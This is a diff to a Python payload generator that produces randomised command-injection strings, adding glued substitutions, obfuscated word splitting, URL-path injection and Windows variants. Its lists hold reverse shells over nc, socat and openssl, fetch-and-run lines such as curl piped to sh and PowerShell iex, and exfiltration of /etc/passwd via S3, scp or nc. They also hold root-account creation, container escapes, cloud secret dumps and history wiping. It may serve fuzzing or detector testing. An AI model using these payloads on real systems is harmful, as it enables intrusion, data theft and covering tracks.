@@ -557,6 +557,124 @@ def _special(rng: random.Random, pool: tuple[str, ...], name: str) -> tuple[str,
     return payload, f"{name}:{idx}"
 
 
+# --- broader forms (glued substitution, wide vocabulary, word splitting, paths, Windows) ----
+
+#: Plausible values a substitution is glued onto with no separator.
+_GLUE_BASES = (
+    "backup.tar.gz", "report_2024.pdf", "invoice-{n}.pdf", "7f3a", "{hex}", "john.doe@example.com", "{w}@{w}.com",
+    "www.example.io", "{w}.example.com", "api.{w}.net", "{w}.jpg", "IMG_{n}.png", "v1.2.{n}", "main", "release/{n}",
+    "{n}", "order-{n}", "+1 555 0100", "{w}", "/tmp/{w}.log", "en-US", "{w}_{n}.csv", "https://{w}.com/x", "10.0.0.{n}",
+)  # fmt: skip
+_GLUE_CMDS = (
+    "id", "whoami", "id>/tmp/{w}", "sleep {n}", "curl oob.example", "curl {host}", "uname -a", "hostname", "nslookup {host}",
+    "wget -q {url}", "cat /etc/passwd", "ping -c {n} {host}", "touch /tmp/{w}", "getent passwd", "curl {url}|sh", "dig {host}",
+)  # fmt: skip
+#: A wider command vocabulary (after a separator).
+_WIDE = (
+    "getent passwd", "getent shadow", "getent hosts {host}", "killall -9 {w}", "killall nginx", "iptables -F", "iptables -P INPUT ACCEPT",
+    "iptables -L -n", "docker run --rm -v /:/mnt alpine chroot /mnt sh", "docker run -d --privileged {w}/{w}", "docker ps", "docker exec {w} id",
+    "kubectl get secrets -A -o yaml", "kubectl exec -it {w} -- sh", "kubectl run {w} --image=alpine --restart=Never -- sh -c 'id'",
+    "aws s3 cp /etc/passwd s3://{w}/", "aws s3 cp s3://{w}/{w}.sh /tmp/{w}.sh", "aws sts get-caller-identity", "aws iam list-users",
+    "gcloud auth print-access-token", "gcloud compute instances list", "gcloud secrets versions access latest --secret={w}",
+    "systemctl stop firewalld", "systemctl enable {w}.service", "systemctl disable --now apparmor", "crontab -l", "crontab -r",
+    "useradd -o -u 0 {w}", "useradd -m {w} -s /bin/bash", "passwd -d root", "echo {w}:{w}|chpasswd", "mkfifo /tmp/{w}",
+    "mkfifo /tmp/f; nc {ip} {port} </tmp/f | sh >/tmp/f", "socat TCP:{ip}:{port} EXEC:sh", "socat file:`tty`,raw,echo=0 tcp:{ip}:{port}",
+    "openssl s_client -quiet -connect {ip}:{port} | sh", "openssl s_client -connect {host}:443", "tftp {ip} -c get {w}", "tftp -i {ip} GET {w}",
+    "ftp -n {ip}", "scp /etc/passwd {w}@{ip}:", "scp -r /var/www {w}@{ip}:/tmp", "rsync -a /etc/ {w}@{ip}::{w}", "rsync {ip}::{w}/{w} /tmp/",
+    "tar cf - /etc | nc {ip} {port}", "tar czf /tmp/{w}.tgz /home", "zip -r /tmp/{w}.zip /var/www", "zip -q /tmp/{w}.zip /etc/passwd",
+    "echo {b64file} | base64 -d | sh", "base64 -d <<< {b64file} | bash", "awk 'BEGIN{{system(\"id\")}}'", "awk 'BEGIN{{system(\"{scmd}\")}}'",
+    "find / -name {w} -exec id \\;", "find . -exec {scmd} \\;", "find /tmp -exec sh -c '{scmd}' \\;", "xargs -0 sh -c '{scmd}'",
+    "echo id | xargs sh -c", "ls | xargs rm -f", "nohup sh -c '{scmd}' &", "setsid {scmd}", "env -i sh -c '{scmd}'", "chattr -i /etc/passwd",
+    "ssh-keygen -f /tmp/{w} -N ''", "at now + 1 minute <<< '{scmd}'", "strace -p 1", "gdb -batch -ex 'call system(\"id\")' -p 1",
+    "mount -o bind /tmp /mnt", "insmod /tmp/{w}.ko", "journalctl --vacuum-time=1s", "history -c", "unset HISTFILE", "pkill -f {w}",
+)  # fmt: skip
+_WIN_EXTRA = (
+    "for /f %i in ('whoami') do nslookup %i.{host}", "for /f \"tokens=*\" %a in ('hostname') do ping -n 1 %a.{host}",
+    "systeminfo | findstr /b /c:\"os name\"", "systeminfo | findstr /B /C:\"OS Name\" /C:\"OS Version\"", "type C:\\Windows\\win.ini",
+    "type C:\\inetpub\\wwwroot\\web.config", "%COMSPEC% /c whoami", "%COMSPEC% /c dir", "%comspec% /k net user",
+    "powershell -nop -w hidden -c whoami", "powershell -nop -w hidden -c \"iex(iwr {url})\"", "powershell -nop -c Get-LocalUser",
+    "cmd.exe /c whoami", "cmd.exe /c \"ping -n {n} 127.0.0.1\"", "cmd /c set", "wmic process call create \"cmd /c whoami > C:\\temp\\{w}.txt\"",
+    "wmic process call create 'powershell -c iwr {url}'", "wmic qfe list", "net user administrator", "net group \"domain admins\" /domain",
+    "reg query HKLM /f password /t REG_SZ /s", "dir C:\\Users\\ /s /b", "tasklist /v | findstr /i {w}", "nltest /dclist:", "whoami /priv",
+)  # fmt: skip
+_URL_PATH_TMPL = (
+    "/branches/{branch}{sep}{cmd}/build", "/repos/{w}{sep}{cmd}/{w}", "/api/v1/hosts/{host0}{sep}{cmd}", "/files/{w}.txt{sep}{cmd}",
+    "/ping/127.0.0.1{sep}{cmd}", "/download/{w}{sep}{cmd}/latest", "/projects/{w}/jobs/{n}{sep}{cmd}/retry", "/diag/dns/{host0}{sep}{cmd}",
+)  # fmt: skip
+
+
+def _wsplit(cmd: str, rng: random.Random) -> str:
+    """Shell word-splitting obfuscation of the first word: who$@ami, wh""oami, w'h'oami, $u."""
+    head, rest = _split_first(cmd)
+    if len(head) < 2 or not head.isalpha():
+        head, rest = "whoami", ""
+    k = rng.randint(1, len(head) - 1)
+    style = rng.randrange(8)
+    if style == 0:
+        new = head[:k] + rng.choice(["$@", "$*", "${9}", "$9", "$()", "``"]) + head[k:]
+    elif style == 1:
+        new = head[:k] + rng.choice(['""', "''"]) + head[k:]
+    elif style == 2:
+        new = f"{head[:k]}'{head[k]}'{head[k + 1 :]}" if k < len(head) else f"'{head}'"
+    elif style == 3:
+        new = f'{head[:k]}"{head[k:]}"'
+    elif style == 4:
+        new = "".join(f"\\{c}" if rng.random() < 0.5 else c for c in head)
+    elif style == 5:
+        var = rng.choice(["u", "a", "x", "c", "cmd", "p"])
+        return f"{var}={head}{' ' + rest if rest else ''};${var}" if not rest else f"{var}='{cmd}';${var}"
+    elif style == 6:
+        var = rng.choice(["u", "a", "x"])
+        return f"{var}={head};${{{var}}}" + (f" {rest}" if rest else "")
+    else:
+        new = f"{head[:k]}${{x}}{head[k:]}"
+    return new + (f" {rest}" if rest else "")
+
+
+def _extra(rng: random.Random) -> tuple[str, str]:
+    form = weighted(rng, (("glued", 2.5), ("wide", 3.5), ("wsplit", 1.5), ("urlpath", 1.2), ("winx", 2.0)))
+    if form == "glued":
+        base = fill(rng.choice(_GLUE_BASES), rng, _BASE_X)
+        cmd = fill(rng.choice(_GLUE_CMDS), rng, _BASE_X)
+        wrap = rng.choice(["$({c})", "$({c})", "`{c}`", "`{c}`", "$( {c} )", "$({c});"])
+        return base + wrap.replace("{c}", cmd), "extra:glued"
+    if form == "wide":
+        cmd = fill(rng.choice(_WIDE), rng, _BASE_X)
+        payload, how = _assemble(rng, cmd, windows=False)
+        return payload, f"extra:wide:{how}"
+    if form == "wsplit":
+        cmd = fill(rng.choice(("whoami", "id", "uname -a", "cat /etc/passwd", "hostname", "ls -la", "sleep {n}", "getent passwd", "ps aux")), rng, _BASE_X)
+        ob = _wsplit(cmd, rng)
+        if rng.random() < 0.25:
+            return ob, "extra:wsplit:bare"
+        payload, how = _assemble(rng, ob, windows=False)
+        return payload, f"extra:wsplit:{how}"
+    if form == "urlpath":
+        cmd = fill(rng.choice(("sleep {n}", "id", "getent passwd", "whoami", "curl {host}", "cat /etc/passwd", "nslookup {host}", "uname -a")), rng, _BASE_X)
+        tmpl = rng.choice(_URL_PATH_TMPL)
+        sep = rng.choice(["|", ";", "&&", "||", "%7c", "%3b", "`", "$("])
+        value = fill(tmpl, rng, _BASE_X, {"sep": sep, "cmd": cmd + ("`" if sep == "`" else ")" if sep == "$(" else "")})
+        return value, "extra:urlpath"
+    cmd = fill(rng.choice(_WIN_EXTRA), rng, _BASE_X)
+    if rng.random() < 0.3 and any(t in cmd.lower() for t in ("for /f", "%comspec%", "powershell", "cmd", "wmic")):
+        return cmd, "extra:winx:bare"
+    payload, how = _assemble(rng, cmd, windows=True)
+    return payload, f"extra:winx:{how}"
+
+
+_BASE_X: dict[str, Filler] = {
+    **_BASE,
+    "hex": lambda r: "".join(r.choice("0123456789abcdef") for _ in range(r.choice([4, 6, 8]))),
+    "branch": choice_filler(("main", "master", "develop", "feature/login", "release-2.1")),
+    "host0": choice_filler(("example.com", "8.8.8.8", "127.0.0.1", "db01")),
+}
+
+
+def extra_payload(rng: random.Random) -> tuple[str, str]:
+    """One payload of the broader forms: glued substitution, wide vocabulary, word splitting, URL paths, Windows."""
+    return _extra(rng)
+
+
 _KINDS: tuple[tuple[str, float], ...] = (
     ("unix", 0.6),
     ("win", 0.22),
@@ -565,6 +683,7 @@ _KINDS: tuple[tuple[str, float], ...] = (
     ("shellshock", 0.025),
     ("arginj", 0.02),
     ("chain", 0.05),
+    ("extra", 0.22),
 )
 
 
@@ -579,6 +698,8 @@ def rce_payload(rng: random.Random) -> tuple[str, str]:
         return _special(rng, _SHELLSHOCK, "shellshock")
     if kind == "arginj":
         return _special(rng, _ARGINJ, "arginj")
+    if kind == "extra":
+        return _extra(rng)
     if kind == "chain":  # several commands in a row
         cmds = [fill(rng.choice(_UNIX[:60]), rng, _BASE) for _ in range(rng.randint(2, 3))]
         sep = rng.choice([";", "&&", "|", ";", "\n"])
